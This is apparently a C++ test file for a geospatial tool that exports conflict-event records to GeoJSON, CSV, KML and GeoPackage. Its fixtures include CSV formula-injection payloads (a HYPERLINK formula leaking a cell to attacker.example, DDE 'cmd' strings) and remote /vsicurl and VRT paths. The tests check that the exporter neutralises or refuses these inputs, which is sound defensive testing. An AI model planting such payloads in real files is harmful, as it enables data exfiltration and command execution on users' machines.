#include <doctest/doctest.h>

#include <gdal_utils.h>

#include <cmath>
#include <cstring>
#include <fstream>
#include <map>
#include <thread>
#include <nlohmann/json.hpp>

#include "core/hash.hpp"
#include "geo/gdal.hpp"
#include "geo/reproject.hpp"
#include "store/export.hpp"
#include "store/private/gpkg_rows.hpp"
#include "store/private/schema.hpp"
#include "store/private/store_impl.hpp"
#include "store/synthetic.hpp"
#include "store_fixture.hpp"

using namespace sitmap;
using sitmap::test::TempDir;

namespace {

DatasetPtr open_vector(const std::string& path) {
  DatasetPtr ds(GDALDataset::Open(path.c_str(), GDAL_OF_VECTOR | GDAL_OF_READONLY, nullptr, nullptr, nullptr));
  REQUIRE(ds);
  return ds;
}

// Every feature of a file by event_id: field name -> value as GDAL reads it, plus x/y.
std::map<std::string, std::map<std::string, std::string>> read_back(const std::string& path) {
  auto ds = open_vector(path);
  std::map<std::string, std::map<std::string, std::string>> out;
  OGRLayer* layer = ds->GetLayer(0);
  for (auto& f : *layer) {
    auto& row = out[f->GetFieldAsString("event_id")];
    for (int i = 0; i < f->GetFieldCount(); ++i) row[f->GetFieldDefnRef(i)->GetNameRef()] = f->GetFieldAsString(i);
    if (const OGRGeometry* g = f->GetGeometryRef()) {
      row["x"] = std::to_string(g->toPoint()->getX());
      row["y"] = std::to_string(g->toPoint()->getY());
    }
  }
  return out;
}

struct HandStore {
  TempDir tmp;
  Store store = Store::open(tmp.file("hand.gpkg"));
  HandStore() {
    test::add_hand_events(store);
    Event ranged = test::hand_event("ranged", {2015, 11, 1}, 36.0, 40.0, "Armed clash", "Tab\there \\ \"q\" \x01", "SY");
    ranged.when.date_to = CivilDate{2015, 11, 3};
    ranged.quantities = {{"vehicles_destroyed", 4}};
    ranged.targets = {"bridge"};
    ranged.fatalities = 7;
    store.append_events(std::span<const Event>(&ranged, 1), "sitmap");
  }
};

}  // namespace

TEST_CASE("GeoJSON: RFC 7946 as GDAL reads it") {
  HandStore h;
  const std::string out = h.tmp.file("events.geojson");
  CHECK(export_events(h.store, {}, out, {}) == 6);
  auto ds = open_vector(out);
  OGRLayer* layer = ds->GetLayer(0);
  CHECK(layer->GetFeatureCount() == 6);
  const OGRSpatialReference* srs = layer->GetSpatialRef();
  REQUIRE(srs);
  CHECK(std::string(srs->GetAuthorityCode(nullptr)) == "4326");
  const OGRFeatureDefn* defn = layer->GetLayerDefn();
  CHECK(defn->GetFieldDefn(defn->GetFieldIndex("start_time"))->GetType() == OFTDateTime);
  CHECK(defn->GetFieldDefn(defn->GetFieldIndex("event_date"))->GetType() == OFTDate);
  const auto rows = read_back(out);
  const auto& raqqa = rows.at("raqqa");
  CHECK(std::stod(raqqa.at("x")) == doctest::Approx(39.007881));  // lon first
  CHECK(std::stod(raqqa.at("y")) == doctest::Approx(35.952831));
  CHECK(raqqa.at("start_time") == "2015/11/15 00:00:00+00");
  CHECK(raqqa.at("end_time") == "2015/11/15 23:59:59+00");
  CHECK(rows.at("ranged").at("end_time") == "2015/11/03 23:59:59+00");
  CHECK(rows.at("ranged").at("actor1") == "Tab\there \\ \"q\" \x01");
  CHECK(rows.at("ranged").at("targets").find("bridge") != std::string::npos);
  // No "crs" member, at most 6 decimals.
  std::ifstream in(out);
  const std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  CHECK(text.find("\"crs\"") == std::string::npos);
  CHECK(text.find("[39.007881,35.952831]") != std::string::npos);
}

TEST_CASE("GeoJSON: GDAL reads ours exactly as it reads its own writer's, and ogr2ogr round-trips it") {
  HandStore h;
  const std::string ours = h.tmp.file("ours.geojson"), theirs = h.tmp.file("gdal.geojson"), again = h.tmp.file("again.geojson");
  export_events(h.store, {}, ours, {});
  // GDAL's own GeoJSON writer on the same store (ogr2ogr through the library).
  for (const auto& [src, dst] : {std::pair{h.tmp.file("hand.gpkg"), theirs}, std::pair{ours, again}}) {
    GDALDatasetH in = GDALOpenEx(src.c_str(), GDAL_OF_VECTOR, nullptr, nullptr, nullptr);
    REQUIRE(in);
    const char* args[] = {"-f", "GeoJSON", "-lco", "RFC7946=YES", "events", nullptr};
    GDALVectorTranslateOptions* opts = GDALVectorTranslateOptionsNew(const_cast<char**>(args), nullptr);
    GDALDatasetH out = GDALVectorTranslate(dst.c_str(), nullptr, 1, &in, opts, nullptr);
    REQUIRE(out);
    GDALClose(out);
    GDALVectorTranslateOptionsFree(opts);
    GDALClose(in);
  }
  const auto a = read_back(ours), b = read_back(theirs), c = read_back(again);
  REQUIRE(a.size() == b.size());
  for (const auto& [id_binding, row] : b) {
    const std::string& id = id_binding;  // clang before 16 cannot capture a structured binding (CHECK's lambda)
    for (const auto& [field_binding, value] : row) {
      const std::string& field = field_binding;
      // reading_summary (what matching folds) is stored, never exported.
      if (field != "fid" && field != "reading_summary") CHECK_MESSAGE(a.at(id).at(field) == value, id << "." << field);
    }
  }
  CHECK(a == c);
}

TEST_CASE("GeoJSONSeq: one feature a line") {
  HandStore h;
  const std::string out = h.tmp.file("events.geojsonl");
  ExportOptions o;
  o.format = ExportFormat::geojsonseq;
  CHECK(export_events(h.store, {}, out, o) == 6);
  CHECK(open_vector(out)->GetLayer(0)->GetFeatureCount() == 6);
}

TEST_CASE("CSV: ACLED's column names and order first") {
  HandStore h;
  const std::string out = h.tmp.file("events.csv");
  ExportOptions o;
  o.format = ExportFormat::csv;
  export_events(h.store, {}, out, o);
  std::ifstream in(out);
  std::string header;
  std::getline(in, header);
  CHECK(header.rfind("event_id_cnty,event_date,year,time_precision,event_type,sub_event_type,actor1,actor2,country,"
                     "admin1,location,latitude,longitude,geo_precision,notes,fatalities,",
                     0) == 0);
  auto ds = open_vector(out);
  CHECK(ds->GetLayer(0)->GetFeatureCount() == 6);
  std::map<std::string, std::string> paris;
  for (auto& f : *ds->GetLayer(0))
    if (std::string(f->GetFieldAsString("event_id_cnty")) == "paris") {
      paris["event_date"] = f->GetFieldAsString("event_date");
      paris["year"] = f->GetFieldAsString("year");
      paris["longitude"] = f->GetFieldAsString("longitude");
    }
  CHECK(paris["event_date"] == "2015-11-13");
  CHECK(paris["year"] == "2015");
  CHECK(paris["longitude"] == "2.3488");
}

TEST_CASE("--t-srs: reprojected through PROJ for GPKG and FlatGeobuf, refused for GeoJSON") {
  HandStore h;
  ExportOptions o;
  o.t_srs = "EPSG:3857";
  CHECK_THROWS_AS(export_events(h.store, {}, h.tmp.file("x.geojson"), o), std::invalid_argument);
  CHECK_FALSE(std::filesystem::exists(h.tmp.file("x.geojson")));
  for (const auto format : {ExportFormat::gpkg, ExportFormat::fgb}) {
    o.format = format;
    const std::string out = h.tmp.file(std::string("m.") + std::string(format_name(format)));
    CHECK(export_events(h.store, {}, out, o) == 6);
    const auto rows = read_back(out);
    CHECK(std::stod(rows.at("raqqa").at("x")) == doctest::Approx(4342294.0).epsilon(1e-4));
    CHECK(std::stod(rows.at("raqqa").at("y")) == doctest::Approx(4290100.0).epsilon(1e-3));
    auto ds = open_vector(out);
    CHECK(std::string(ds->GetLayer(0)->GetSpatialRef()->GetAuthorityCode(nullptr)) == "3857");
  }
  Reprojector equal_earth("EPSG:8857");
  double x, y;
  CHECK(equal_earth.forward(0, 0, x, y));
  CHECK(x == doctest::Approx(0).epsilon(1e-6));
  CHECK_THROWS_AS(Reprojector("EPSG:999999"), std::invalid_argument);
}

TEST_CASE("KML with a time span per placemark; filters apply to every format") {
  HandStore h;
  ExportOptions o;
  o.format = ExportFormat::kml;
  EventFilter f;
  f.types = {"Air/drone strike"};
  const std::string out = h.tmp.file("strikes.kml");
  CHECK(export_events(h.store, f, out, o) == 3);
  std::ifstream in(out);
  const std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  CHECK(text.find("<TimeSpan>") != std::string::npos);
  CHECK(text.find("2015-11-15T00:00:00Z") != std::string::npos);
}

TEST_CASE("an events layer without our columns still exports valid GeoJSON") {
  TempDir tmp;
  const std::string path = tmp.file("foreign.gpkg");
  {
    // Another tool's GeoPackage: an "events" layer of polygons with one column of its own.
    GDALDriver* gpkg = GetGDALDriverManager()->GetDriverByName("GPKG");
    DatasetPtr ds(gpkg->Create(path.c_str(), 0, 0, 0, GDT_Unknown, nullptr));
    OGRSpatialReference srs = wgs84_lon_lat();
    OGRLayer* layer = ds->CreateLayer("events", &srs, wkbPolygon, nullptr);
    OGRFieldDefn name("name", OFTString);
    layer->CreateField(&name);
    OGRFieldDefn quantities("quantities", OFTString);
    quantities.SetSubType(OFSTJSON);
    layer->CreateField(&quantities);
    OGRFeature f(layer->GetLayerDefn());
    f.SetField("name", "zone");
    f.SetField("quantities", "{not json");
    OGRPolygon poly;
    OGRLinearRing ring;
    for (auto [x, y] : {std::pair{30.0, 30.0}, {50.0, 30.0}, {50.0, 40.0}, {30.0, 30.0}}) ring.addPoint(x, y);
    poly.addRing(&ring);
    f.SetGeometry(&poly);
    REQUIRE(layer->CreateFeature(&f) == OGRERR_NONE);
  }
  Store store = Store::open(path, Store::Mode::read);
  const std::string out = tmp.file("out.geojson");
  CHECK(export_events(store, {}, out, {}) == 1);
  std::ifstream in(out);
  const std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  CHECK(nlohmann::json::accept(text));
  CHECK(text.find("\"quantities\":\"{not json\"") != std::string::npos);  // a string, not broken JSON
  CHECK(text.find("{,") == std::string::npos);
}

TEST_CASE("CSV: cells a spreadsheet would run as formulas are written as text") {
  TempDir tmp;
  Store store = Store::open(tmp.file("f.gpkg"));
  Event e =
      test::hand_event("x1", {2015, 11, 15}, 35.9, 39.0, "Armed clash", "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")", "SY");
  e.actor2 = "+cmd|' /C calc'!A0";
  e.location = "-2+3";
  e.sentence = "@SUM(1+1)";
  e.country = "\tTab";
  e.admin1 = "Safe text";
  store.append_events(std::span<const Event>(&e, 1), "acled");
  const std::string out = tmp.file("f.csv");
  ExportOptions o;
  o.format = ExportFormat::csv;
  export_events(store, {}, out, o);
  auto ds = open_vector(out);
  FeaturePtr f(ds->GetLayer(0)->GetNextFeature());
  REQUIRE(f);
  CHECK(std::string(f->GetFieldAsString("actor1")) == "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")");
  CHECK(std::string(f->GetFieldAsString("actor2")) == "'+cmd|' /C calc'!A0");
  CHECK(std::string(f->GetFieldAsString("location")) == "'-2+3");
  CHECK(std::string(f->GetFieldAsString("notes")) == "'@SUM(1+1)");
  CHECK(std::string(f->GetFieldAsString("country")) == "'\tTab");
  CHECK(std::string(f->GetFieldAsString("admin1")) == "Safe text");
  CHECK(std::string(f->GetFieldAsString("latitude")) == "35.9");  // numbers are not text cells
}

TEST_CASE("--within reads local files only: no URL, no GDAL virtual file system") {
  HandStore h;
  for (const char* where : {"/vsicurl/http://127.0.0.1:9/area.geojson", "https://example.org/area.geojson",
                            "/vsizip//vsicurl/http://127.0.0.1:9/a.zip", "GeoJSON:http://127.0.0.1:9/x"}) {
    EventFilter f;
    f.within = where;
    CHECK_THROWS_WITH_AS(export_events(h.store, f, h.tmp.file("w.geojson"), {}), doctest::Contains("not a local file"),
                         std::invalid_argument);
  }
  // A VRT may point anywhere: not among the drivers a polygon file is read with.
  const std::string vrt = h.tmp.file("area.vrt");
  std::ofstream(vrt) << "<OGRVRTDataSource><OGRVRTLayer name=\"a\"><SrcDataSource>/vsicurl/http://127.0.0.1:9/a.geojson"
                        "</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>";
  EventFilter f;
  f.within = vrt;
  CHECK_THROWS_WITH_AS(export_events(h.store, f, h.tmp.file("w.geojson"), {}), doctest::Contains("cannot read as a polygon file"),
                       std::invalid_argument);
}

namespace {

std::string file_bytes(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
}

// One agency's report of one strike on Manbij (its text makes its content
// hash, the key of its reading).
DocumentRecord strike_report(const std::string& id, const std::string& agency, double lat, int fatalities) {
  DocumentRecord r;
  r.doc.id = id;
  r.doc.source = id + ".txt";
  r.doc.byline = agency;
  r.doc.text = "Report " + id + ".";
  r.content_hash = content_hash(r.doc.text);
  Event e = test::hand_event(id + "-1", {2016, 3, 3}, lat, 37.955, "Air/drone strike", "Military Forces of Russia", "SY");
  e.document_id = id;
  e.location = "Manbij";
  e.admin1 = "Aleppo";
  e.geonameid = 166365;
  e.fatalities = fatalities;
  e.sentence = "Jets struck the town, " + agency + " said.";
  r.events.push_back(e);
  return r;
}

}  // namespace

TEST_CASE("GeoPackage rows stepped through SQLite write the bytes the GDAL path writes: every filter, every text format") {
  TempDir tmp;
  Store store = Store::open(tmp.file("mixed.gpkg"));
  // Our events as canonical events and readings, every canonical column
  // set: synthetic readings (one source each), then three agencies' reports
  // of one strike (one event of three sources) and ACLED's code of it
  // (also_coded, both ways).
  add_synthetic_readings(store, 4000);
  const DocumentRecord reports[] = {strike_report("afp1", "AFP", 36.528, 12), strike_report("reu1", "Reuters", 36.531, 9),
                                    strike_report("xin1", "Xinhua", 36.529, 15)};
  store.add_documents(reports);
  Event acled = test::hand_event("SYR1234", {2016, 3, 3}, 36.528, 37.955, "Air/drone strike", "Military Forces of Russia", "SY");
  acled.location = "Manbij";
  store.append_events(std::span(&acled, 1), "acled");
  test::add_hand_events(store);  // sitmap rows of the events layer without readings: a per-report export leaves them out
  // Strings that need escaping or quoting, Unicode, formula cells, NULLs.
  Event odd = test::hand_event("odd \"quoted\" id", {2016, 2, 29}, 36.5, 37.25, "Armed clash", "=cmd|' /C calc'!A0", "SY");
  odd.actor2 = "+\u00dcn\u00efc\u00f8d\u00e9 \u2013 \u201cquotes\u201d \U0001F600";
  odd.location = "-line\nbreak\r\nand\ttab";
  odd.sentence = "@SUM(1,2) \\ back\\slash, \"comma\" \x01 control";
  odd.admin1 = " edge space ";
  odd.when.date_to = CivilDate{2016, 3, 2};
  odd.quantities = {{"aircraft", 12}, {"munitions", 3}};
  odd.targets = {"bridge \"north\"", "depot"};
  odd.fatalities = 0;
  odd.geonameid = 163843;
  odd.location_start = 5;
  odd.location_end = 12;
  odd.background = true;
  odd.confidence = 0.333;
  Event bare;  // every optional field null, every text empty
  bare.when.date = CivilDate{2016, 3, 1};
  bare.point = {-33.8688, 151.2093};
  const Event more[] = {odd, bare};
  store.append_events(more, "acled");

  // Both layers are read through SQLite: the comparison below is not GDAL against GDAL.
  REQUIRE(GeoPackageEvents::open(store.location(), store.impl().layer(kEventsLayer)));
  REQUIRE(GeoPackageEvents::open(store.location(), store.impl().layer(kReadingsLayer), true));

  std::vector<std::pair<std::string, EventFilter>> filters;
  filters.push_back({"all", {}});
  EventFilter f;
  f.from = CivilDate{2016, 1, 1};
  f.to = CivilDate{2017, 6, 30};
  filters.push_back({"dates", f});
  f = {};
  f.bbox = BBox{30, 30, 45, 40};
  filters.push_back({"bbox (R-tree order)", f});
  f.from = CivilDate{2015, 1, 1};
  filters.push_back({"bbox and dates", f});
  f = {};
  f.bbox = BBox{-180, -90, 180, 90};
  filters.push_back({"bbox over the whole layer", f});
  f = {};
  f.country = "SY";
  f.to = CivilDate{2018, 12, 31};
  filters.push_back({"country and a date", f});
  f = {};
  f.types = {"air/drone strike", "Battles"};
  f.actors = {"fran"};
  f.min_confidence = 0.5;
  filters.push_back({"types, actors, confidence", f});
  f = {};
  f.include_background = false;
  f.dataset = "acled";
  filters.push_back({"background, dataset", f});
  f = {};
  f.text = "BREAK";
  filters.push_back({"text", f});

  for (const bool per_report : {false, true}) {
    for (const auto& [name_binding, filter_binding] : filters) {
      const std::string name = name_binding + (per_report ? " (per report)" : "");
      EventFilter filter = filter_binding;
      filter.per_report = per_report;
      for (const ExportFormat format : {ExportFormat::geojson, ExportFormat::geojsonseq, ExportFormat::csv}) {
        ExportOptions sqlite_path, gdal_path;
        sqlite_path.format = gdal_path.format = format;
        gdal_path.read_through_gdal = true;
        const std::string a = tmp.file("sqlite.out"), b = tmp.file("gdal.out");
        const size_t n = export_events(store, filter, a, sqlite_path);
        CHECK_MESSAGE(export_events(store, filter, b, gdal_path) == n, name);
        CHECK_MESSAGE(n > 0, name);
        CHECK_MESSAGE(file_bytes(a) == file_bytes(b), name << " as " << format_name(format));
      }
    }
  }

  // What was compared holds the canonical columns: the strike as one event
  // of three sources linked to ACLED's code; per report, its three readings
  // naming it, ACLED's row, and none of the events layer's own rows.
  ExportOptions seq;
  seq.format = ExportFormat::geojsonseq;
  EventFilter manbij;
  manbij.from = manbij.to = CivilDate{2016, 3, 3};
  manbij.bbox = BBox{37.9, 36.5, 38.0, 36.6};
  const std::string path = tmp.file("manbij.geojsonl");
  CHECK(export_events(store, manbij, path, seq) == 2);
  std::map<std::string, nlohmann::json> rows;
  std::ifstream in(path);
  for (std::string line; std::getline(in, line);) {
    const auto p = nlohmann::json::parse(line)["properties"];
    rows[p["dataset"].get<std::string>()] = p;
    CHECK_FALSE(p.contains("reading_summary"));
  }
  REQUIRE(rows.count("sitmap"));
  CHECK(rows["sitmap"]["source_count"] == 3);
  CHECK(rows["sitmap"]["document_ids"].size() == 3);
  CHECK(rows["sitmap"]["fatalities"] == 9);
  CHECK(rows["sitmap"]["also_coded"].dump().find("SYR1234") != std::string::npos);
  CHECK(rows["acled"]["also_coded"].dump().find(rows["sitmap"]["event_id"].get<std::string>()) != std::string::npos);
  manbij.per_report = true;
  CHECK(export_events(store, manbij, path, seq) == 4);
  std::ifstream in_readings(path);
  size_t naming = 0;
  for (std::string line; std::getline(in_readings, line);) {
    const auto p = nlohmann::json::parse(line)["properties"];
    if (p["dataset"] == "sitmap")
      naming += p["canonical_id"] == rows["sitmap"]["event_id"];
    else
      CHECK(p["dataset"] == "acled");
  }
  CHECK(naming == 3);
  EventFilter all_per_report;
  all_per_report.per_report = true;
  EventFilter imported;
  imported.dataset = "acled";
  CHECK(export_events(store, all_per_report, path, seq) ==
        static_cast<size_t>(store.count(kReadingsLayer)) + export_events(store, imported, tmp.file("acled.geojsonl"), seq));
}

TEST_CASE("the GeoPackage geometry blob: header flags, envelopes, byte orders, empty points") {
  double x = 0, y = 0;
  bool empty = true;
  // A little-endian header with an XY envelope, then a big-endian WKB point.
  std::vector<unsigned char> blob = {'G', 'P', 0, 0x03, 0xe6, 0x10, 0, 0};
  blob.resize(8 + 32, 0);
  const unsigned char wkb[] = {0x00, 0, 0, 0, 1, 0x40, 0x43, 0x80, 0, 0, 0, 0, 0, 0xc0, 0x24, 0, 0, 0, 0, 0, 0};
  blob.insert(blob.end(), std::begin(wkb), std::end(wkb));
  REQUIRE(decode_gpkg_point(blob.data(), blob.size(), x, y, &empty));
  CHECK(x == 39.0);
  CHECK(y == -10.0);
  CHECK_FALSE(empty);
  CHECK_FALSE(decode_gpkg_point(blob.data(), blob.size() - 1, x, y));  // cut short
  blob[40 + 4] = 3;                                                    // a polygon
  CHECK_FALSE(decode_gpkg_point(blob.data(), blob.size(), x, y));
  // Plain WKB, little-endian, an empty point (NaN, NaN).
  std::vector<unsigned char> plain = {0x01, 1, 0, 0, 0};
  const double nan = std::nan("");
  plain.resize(5 + 16);
  std::memcpy(plain.data() + 5, &nan, 8);
  std::memcpy(plain.data() + 13, &nan, 8);
  REQUIRE(decode_gpkg_point(plain.data(), plain.size(), x, y, &empty));
  CHECK(empty);
}

TEST_CASE("GeoPackage rows formatted on several threads come in store order, filtered as one thread filters them") {
  if (std::thread::hardware_concurrency() < 2) {
    MESSAGE("one core: the export reads on one thread");
    return;
  }
  TempDir tmp;
  Store store = Store::open(tmp.file("p.gpkg"));
  add_synthetic_events(store, 3000);
  test::add_hand_events(store);
  auto gpkg = GeoPackageEvents::open(store.location(), store.impl().layer(kEventsLayer));
  REQUIRE(gpkg);
  const RowFormatter format = [](const LayerRow& row, TextBuffer& out) {
    fmt::format_to(std::back_inserter(out), "{} {} {}\n", row.fid, row.cell[ev::event_id].text, row.cell[ev::actor1].text);
  };
  EventFilter by_type;
  by_type.types = {"Air/drone strike", "Armed clash"};
  by_type.actors = {"a"};
  for (const EventFilter& filter : {EventFilter{}, by_type}) {
    std::string one, many;
    size_t rows_one = 0, rows_many = 0;
    gpkg->read(filter, [&](const LayerRow& row) {
      TextBuffer b;
      format(row, b);
      one.append(b.data(), b.size());
      ++rows_one;
    });
    CHECK(gpkg->format_in_parallel(filter, format,
                                   [&](TextBuffer& text, size_t rows) {
                                     many.append(text.data(), text.size());
                                     rows_many += rows;
                                   },
                                   {0, 97}));
    CHECK(rows_many == rows_one);
    CHECK(many == one);
  }
  EventFilter dated;
  dated.from = CivilDate{2015, 1, 1};
  CHECK_FALSE(gpkg->format_in_parallel(dated, format, [](TextBuffer&, size_t) {}, {0, 97}));  // SQL decides the order: one thread
}

TEST_CASE("an output path that is a directory, or in none, is refused before any work and leaves nothing behind") {
  HandStore h;
  const std::string dir = h.tmp.file("out.geojson");
  std::filesystem::create_directory(dir);
  CHECK_THROWS_WITH_AS(export_events(h.store, {}, dir, {}), doctest::Contains("is a directory"), std::invalid_argument);
  CHECK_FALSE(std::filesystem::exists(h.tmp.file(".~out.geojson")));
  CHECK_THROWS_WITH_AS(export_events(h.store, {}, h.tmp.file("missing/out.csv"), {}), doctest::Contains("no such directory"),
                       std::invalid_argument);
}
